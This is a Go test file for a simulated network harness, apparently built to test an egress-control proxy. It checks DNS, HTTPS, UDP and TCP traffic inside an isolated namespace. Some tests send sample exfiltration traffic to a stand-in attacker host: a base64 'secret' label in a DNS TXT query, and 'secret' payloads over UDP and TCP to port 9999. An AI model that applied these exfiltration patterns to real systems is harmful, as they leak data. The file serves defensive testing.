package testworld

import (
	"context"
	"crypto/tls"
	"crypto/x509"
	"encoding/json"
	"errors"
	"net"
	"net/http"
	"net/netip"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/miekg/dns"
	"github.com/vishvananda/netlink"
	"github.com/vishvananda/netns"

	"github.com/keygate/keygate/internal/testutil"
)

// Each test uses its own subnet, away from DefaultPrefix, so that it can run
// beside end-to-end tests of other packages that use the default world.
func startWorld(t *testing.T, cfg Config) *World {
	t.Helper()
	testutil.RequireRoot(t)
	w, err := Start(cfg)
	if err != nil {
		t.Fatalf("Start: %v", err)
	}
	t.Cleanup(func() {
		if err := w.Close(); err != nil {
			t.Errorf("Close: %v", err)
		}
	})
	return w
}

func TestConfigDefaults(t *testing.T) {
	cfg, err := Config{}.withDefaults()
	if err != nil {
		t.Fatal(err)
	}
	if len(cfg.Name) != 7 || !strings.HasPrefix(cfg.Name, "kgw") {
		t.Errorf("default name %q, want kgw + 4 hex digits", cfg.Name)
	}
	if cfg.Prefix != DefaultPrefix || cfg.Zone != DefaultZone {
		t.Errorf("defaults: prefix %s zone %q", cfg.Prefix, cfg.Zone)
	}
}

func TestConfigInvalid(t *testing.T) {
	tests := []struct {
		name string
		cfg  Config
	}{
		{"long name", Config{Name: "toolongname"}},
		{"name with slash", Config{Name: "a/b"}},
		{"upper case name", Config{Name: "KGW"}},
		{"ipv6 prefix", Config{Name: "kgw", Prefix: netip.MustParsePrefix("fd00::/64")}},
		{"prefix too narrow", Config{Name: "kgw", Prefix: netip.MustParsePrefix("10.1.0.0/26")}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			if _, err := Start(tt.cfg); err == nil {
				t.Fatal("Start accepted an invalid config")
			}
		})
	}
}

func TestWorld(t *testing.T) {
	w := startWorld(t, Config{Name: "kgwt1", Prefix: netip.MustParsePrefix("10.251.1.0/24")})

	t.Run("dns", func(t *testing.T) { testDNS(t, w) })
	t.Run("https", func(t *testing.T) { testHTTPS(t, w) })
	t.Run("udp sink", func(t *testing.T) { testUDPSink(t, w) })
	t.Run("tcp sink", func(t *testing.T) { testTCPSink(t, w) })
}

func testDNS(t *testing.T, w *World) {
	w.SetRecord("rebind."+w.Zone, netip.MustParseAddr("127.0.0.1"))

	tests := []struct {
		name   string
		qname  string
		qtype  uint16
		rcode  int
		want   []netip.Addr
		cnames int
	}{
		{"api", w.APIHost(), dns.TypeA, dns.RcodeSuccess, []netip.Addr{w.API}, 0},
		{"evil", w.AttackerHost(), dns.TypeA, dns.RcodeSuccess, []netip.Addr{w.Attacker}, 0},
		{"other mixed case", "OTHER." + w.Zone, dns.TypeA, dns.RcodeSuccess, []netip.Addr{w.Other}, 0},
		{"alias", "alias." + w.Zone, dns.TypeA, dns.RcodeSuccess, []netip.Addr{w.API}, 1},
		{"set record", "rebind." + w.Zone, dns.TypeA, dns.RcodeSuccess,
			[]netip.Addr{netip.MustParseAddr("127.0.0.1")}, 0},
		{"aaaa nodata", w.APIHost(), dns.TypeAAAA, dns.RcodeSuccess, nil, 0},
		{"unknown", "nope." + w.Zone, dns.TypeA, dns.RcodeNameError, nil, 0},
		{"txt", "c2VjcmV0.evil." + w.Zone, dns.TypeTXT, dns.RcodeNameError, nil, 0},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			for _, network := range []string{"udp", "tcp"} {
				resp := query(t, w, network, tt.qname, tt.qtype)
				if resp.Rcode != tt.rcode {
					t.Fatalf("%s: rcode %s, want %s", network,
						dns.RcodeToString[resp.Rcode], dns.RcodeToString[tt.rcode])
				}
				got, cnames := answerAddrs(resp)
				if !equalAddrs(got, tt.want) || cnames != tt.cnames {
					t.Errorf("%s: answer %v with %d CNAMEs, want %v with %d",
						network, got, cnames, tt.want, tt.cnames)
				}
			}
		})
	}

	if !w.Received([]byte("C2VJCMV0")) {
		t.Error("Received does not find a TXT query name, compared case-insensitively")
	}
	qs := w.DNSQueries()
	last := qs[len(qs)-1]
	if last.Type != "TXT" || last.Src.Addr() != w.HostIP {
		t.Errorf("last query %+v, want TXT from %s", last, w.HostIP)
	}
}

func query(t *testing.T, w *World, network, name string, qtype uint16) *dns.Msg {
	t.Helper()
	msg := new(dns.Msg)
	msg.SetQuestion(dns.Fqdn(name), qtype)
	client := &dns.Client{Net: network, Timeout: 2 * time.Second}
	resp, _, err := client.Exchange(msg, w.DNS.String())
	if err != nil {
		t.Fatalf("query %s %s over %s: %v", name, dns.TypeToString[qtype], network, err)
	}
	return resp
}

func answerAddrs(m *dns.Msg) (addrs []netip.Addr, cnames int) {
	for _, rr := range m.Answer {
		switch rr := rr.(type) {
		case *dns.A:
			a, _ := netip.AddrFromSlice(rr.A.To4())
			addrs = append(addrs, a)
		case *dns.CNAME:
			cnames++
		}
	}
	return addrs, cnames
}

func equalAddrs(a, b []netip.Addr) bool {
	if len(a) != len(b) {
		return false
	}
	for i := range a {
		if a[i] != b[i] {
			return false
		}
	}
	return true
}

func testHTTPS(t *testing.T, w *World) {
	tests := []struct {
		name      string
		http2     bool
		wantProto string
	}{
		{"http2", true, "HTTP/2.0"},
		{"http1", false, "HTTP/1.1"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			marker := "marker-" + tt.name + "-4f1c"
			before := len(w.Requests(w.APIHost()))

			client := worldClient(t, w, w.API, tt.http2)
			req, err := http.NewRequest("POST", "https://"+w.APIHost()+"/x?q=1",
				strings.NewReader("body-"+tt.name))
			if err != nil {
				t.Fatal(err)
			}
			req.Header.Set("X-Test-Marker", marker)
			resp, err := client.Do(req)
			if err != nil {
				t.Fatalf("request: %v", err)
			}
			defer resp.Body.Close()

			var echo map[string]string
			if err := json.NewDecoder(resp.Body).Decode(&echo); err != nil {
				t.Fatalf("decode echo: %v", err)
			}
			if resp.StatusCode != 200 || echo["method"] != "POST" || echo["path"] != "/x?q=1" {
				t.Errorf("response %d %v", resp.StatusCode, echo)
			}

			reqs := w.Requests(w.APIHost())
			if len(reqs) != before+1 {
				t.Fatalf("api recorded %d requests, want %d", len(reqs), before+1)
			}
			got := reqs[before]
			if got.Header.Get("X-Test-Marker") != marker || got.Proto != tt.wantProto ||
				got.SNI != w.APIHost() || string(got.Body) != "body-"+tt.name || !got.TLS {
				t.Errorf("recorded %+v", got)
			}
			if !w.Received([]byte(marker)) {
				t.Error("Received does not find the header marker")
			}
			if w.Received([]byte("never-sent-7d2a")) {
				t.Error("Received finds bytes nobody sent")
			}
		})
	}

	if n := len(w.Requests(w.AttackerHost())); n != 0 {
		t.Errorf("attacker recorded %d requests, want none", n)
	}
}

// worldClient returns a client that trusts only the world CA and dials addr
// whatever the URL names, like keygate's proxy after it resolved the name.
func worldClient(t *testing.T, w *World, addr netip.Addr, http2 bool) *http.Client {
	t.Helper()
	pemBytes, err := os.ReadFile(w.CAFile)
	if err != nil {
		t.Fatal(err)
	}
	roots := x509.NewCertPool()
	if !roots.AppendCertsFromPEM(pemBytes) {
		t.Fatal("CA file holds no certificate")
	}

	var protocols http.Protocols
	protocols.SetHTTP1(!http2)
	protocols.SetHTTP2(http2)
	dialer := &net.Dialer{Timeout: 2 * time.Second}
	tr := &http.Transport{
		TLSClientConfig: &tls.Config{RootCAs: roots},
		Protocols:       &protocols,
		DialContext: func(ctx context.Context, network, _ string) (net.Conn, error) {
			return dialer.DialContext(ctx, network, netip.AddrPortFrom(addr, 443).String())
		},
	}
	t.Cleanup(tr.CloseIdleConnections)
	return &http.Client{Transport: tr, Timeout: 5 * time.Second}
}

func testUDPSink(t *testing.T, w *World) {
	dst := netip.AddrPortFrom(w.Attacker, 9999)
	conn, err := net.Dial("udp", dst.String())
	if err != nil {
		t.Fatal(err)
	}
	defer conn.Close()
	payload := []byte("udp-secret-91ab")
	if _, err := conn.Write(payload); err != nil {
		t.Fatal(err)
	}

	waitFor(t, func() bool { return w.Received(payload) })
	d := findDatagram(w, payload)
	if d.Network != "udp" || d.Dst != dst || d.Src.Addr() != w.HostIP {
		t.Errorf("datagram %+v, want udp to %s from %s", d, dst, w.HostIP)
	}
}

func testTCPSink(t *testing.T, w *World) {
	dst := netip.AddrPortFrom(w.Attacker, 9999)
	conn, err := net.Dial("tcp", dst.String())
	if err != nil {
		t.Fatal(err)
	}
	defer conn.Close()
	for _, part := range []string{"tcp-se", "cret-", "e3f0"} {
		if _, err := conn.Write([]byte(part)); err != nil {
			t.Fatal(err)
		}
	}

	payload := []byte("tcp-secret-e3f0")
	waitFor(t, func() bool { return w.Received(payload) })
	if d := findDatagram(w, payload); d.Network != "tcp" || d.Dst != dst {
		t.Errorf("stream %+v, want tcp to %s", d, dst)
	}
}

func findDatagram(w *World, payload []byte) Datagram {
	for _, d := range w.Datagrams() {
		if string(d.Payload) == string(payload) {
			return d
		}
	}
	return Datagram{}
}

func waitFor(t *testing.T, cond func() bool) {
	t.Helper()
	deadline := time.Now().Add(3 * time.Second)
	for !cond() {
		if time.Now().After(deadline) {
			t.Fatal("condition not met within 3s")
		}
		time.Sleep(10 * time.Millisecond)
	}
}

func TestCloseRemovesEverything(t *testing.T) {
	w := startWorld(t, Config{Name: "kgwt2", Prefix: netip.MustParsePrefix("10.251.2.0/24")})
	caDir := filepath.Dir(w.CAFile)

	if err := w.Close(); err != nil {
		t.Fatalf("Close: %v", err)
	}
	if err := w.Close(); err != nil {
		t.Fatalf("second Close: %v", err)
	}

	if ns, err := netns.GetFromName(w.Name); err == nil {
		ns.Close()
		t.Errorf("namespace %s still exists", w.Name)
	}
	_, err := netlink.LinkByName(w.Name + "h")
	if !errors.As(err, new(netlink.LinkNotFoundError)) {
		t.Errorf("host link %sh: got %v, want not found", w.Name, err)
	}
	if _, err := os.Stat(caDir); !errors.Is(err, os.ErrNotExist) {
		t.Errorf("CA dir %s: got %v, want removed", caDir, err)
	}
	routes, err := netlink.RouteGet(net.IP(w.API.AsSlice()))
	if err == nil && len(routes) > 0 && routes[0].Gw == nil && routes[0].LinkIndex != 0 {
		if link, err := netlink.LinkByIndex(routes[0].LinkIndex); err == nil &&
			link.Attrs().Name == w.Name+"h" {
			t.Errorf("route to %s still uses the world link", w.API)
		}
	}
}

func TestStartRejectsUsedPrefix(t *testing.T) {
	prefix := netip.MustParsePrefix("10.251.4.0/24")
	startWorld(t, Config{Name: "kgwt4", Prefix: prefix})

	w, err := Start(Config{Name: "kgwt5", Prefix: prefix})
	if err == nil {
		w.Close()
		t.Fatal("second world on the same subnet started")
	}
	if _, err := netns.GetFromName("kgwt5"); err == nil {
		t.Error("failed Start left its namespace behind")
	}
}
